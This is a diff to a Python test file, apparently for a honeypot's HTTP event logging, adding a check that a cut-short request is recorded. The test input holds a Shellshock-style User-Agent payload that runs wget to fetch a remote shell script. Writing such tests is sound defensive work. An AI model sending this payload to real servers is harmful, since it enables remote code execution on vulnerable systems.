@@ -307,13 +307,17 @@ def http_urls_only_where_pointed_at(ctx):
     ]
     for port, raw in reqs:
         send_and_close(port, raw)
-    wait_for(lambda: sum(e["eventid"] == "http.request" for e in d.events()) >= len(reqs), T(10),
-             what="every request")
+    # a head cut short (no empty line): recorded as http.incomplete, its raw bytes split the same
+    # way; the empty lines before its request line (skipped, as nginx does) do not end its head
+    send_and_close(web, b"\r\n\r\nGET /cut HTTP/1.1\r\nHost: x\r\nReferer: http://192.0.2.49/ref\r\n"
+                        b"User-Agent: () { :; }; /bin/sh -c 'wget http://192.0.2.48/inc.sh'")
+    wait_for(lambda: sum(e["eventid"] == "http.request" for e in d.events()) >= len(reqs) and
+             any(e["eventid"] == "http.incomplete" for e in d.events()), T(10), what="every request")
     time.sleep(0.5)
     evs = stop_and_read(d)
     got = sorted(e["url"] for e in evs if e["eventid"].startswith("session.file_download"))
     assert got == ["http://192.0.2.41/w.sh", "http://192.0.2.45/s.sh", "http://192.0.2.46/r.txt",
-                   "http://192.0.2.47/m"], got
+                   "http://192.0.2.47/m", "http://192.0.2.48/inc.sh"], got
     tools = {e["url"]: e["tool"] for e in evs if e["eventid"].startswith("session.file_download")}
     assert tools["http://192.0.2.45/s.sh"] == "wget" and tools["http://192.0.2.46/r.txt"] == "url", tools
     # the head's URLs are still on record, in the request's event
